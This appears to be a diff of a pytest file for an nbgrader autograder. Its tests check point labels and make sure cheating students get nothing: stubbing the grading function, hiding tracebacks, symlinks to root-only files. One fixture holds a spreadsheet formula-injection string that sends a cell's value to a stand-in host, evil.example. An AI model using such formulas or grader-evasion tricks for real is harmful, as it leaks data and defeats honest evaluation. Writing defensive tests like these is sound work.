@@ -2,6 +2,7 @@
 
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -10,12 +11,13 @@ import nbformat
 import pytest
 
 import coursework
+from autograder import points
 
 from autograder.course.nbgrader_course import autograde
 from autograder.course.nbgrader_grades import grade_outputs, named_check
 from autograder.results import CheckResult, Status
 from autograder.course.release import generate
-from tests.conftest import ROOT
+from autograder.paths import ROOT
 from tests.notebooks import RELEASED, cell, variant
 from tests.routes import gradebook_scores, new_course
 
@@ -51,6 +53,8 @@ def test_grade_cells_match_the_rubric():
                 assignment, check_id = named_check(c.source)  # as nbgrader's autograde maps cells to checks
                 assert assignment == rubric.id, c.source
                 cells[check_id] = float(meta["points"])
+                said = re.search(r"# Autograder: .*\((\d+) points?\)", c.source)
+                assert said and said.group(0).endswith(f"({points.counted(float(meta['points']))})"), c.source
         graded = {s.id: s.points for s in rubric.checks if s.points > 0}
         assert cells == graded, rubric.name
 
@@ -101,6 +105,7 @@ def warmup_class(tmp_path_factory):
     return course, autograde(course, ["00_warmup"], profile="smoke")
 
 
+@pytest.mark.notebooks
 def test_nbgrader_autograde_two_students(warmup_class):
     """The honest reference gets full marks; a wrong hand count loses that cell's point only."""
     course, csv_path = warmup_class
@@ -115,6 +120,7 @@ def test_nbgrader_autograde_two_students(warmup_class):
     assert "[fail]" in printed and "7" in printed  # the check's message, for the student's feedback
 
 
+@pytest.mark.notebooks
 def test_the_nbgrader_route_writes_batchs_tables_with_errors_by_name(warmup_class):
     """The course's grading/ gets batch's gradebook.csv and class report: mallory's notebook (nothing solved)
     errored, and says so by name."""
@@ -129,18 +135,21 @@ def test_the_nbgrader_route_writes_batchs_tables_with_errors_by_name(warmup_clas
     assert "mallory" in broken and "alice" not in broken
 
 
+@pytest.mark.notebooks
 def test_replacing_grade_cell_in_the_kernel_earns_nothing(warmup_class):
     """A student who solves nothing and stubs out coursework.grade_cell gets no point."""
     total, grades = gradebook_scores(warmup_class[0], "00_warmup", "mallory")
     assert total == 0, grades
 
 
+@pytest.mark.notebooks
 def test_hiding_tracebacks_earns_nothing(warmup_class):
     """Patching IPython's showtraceback to hide a failing check gains nothing over the honest wrong answer."""
     total, grades = gradebook_scores(warmup_class[0], "00_warmup", "trudy")
     assert grades["test_params_by_hand"] == 0 and total == 3, grades
 
 
+@pytest.mark.notebooks
 def test_partial_credit_is_the_pipelines(tmp_path, data_dir):
     """A partly right hand count: nbgrader's gradebook holds the same points as `python -m autograder grade`."""
     course = new_course(tmp_path, "03_lenet5")
@@ -180,6 +189,7 @@ SECRET = "root-only-secret-of-the-nbgrader-route"
 FORMULA = '=HYPERLINK("evil.example?"&A1,"open")'  # no slash: a folder name
 
 
+@pytest.mark.notebooks
 def test_nbgrader_follows_no_symlink_and_always_exports(tmp_path):
     """A symlink to a root-only file is neither read nor copied; a dangling one stops nobody; a student whose
     folder cannot be staged is in grades.csv with the reason; no cell of it starts a formula."""
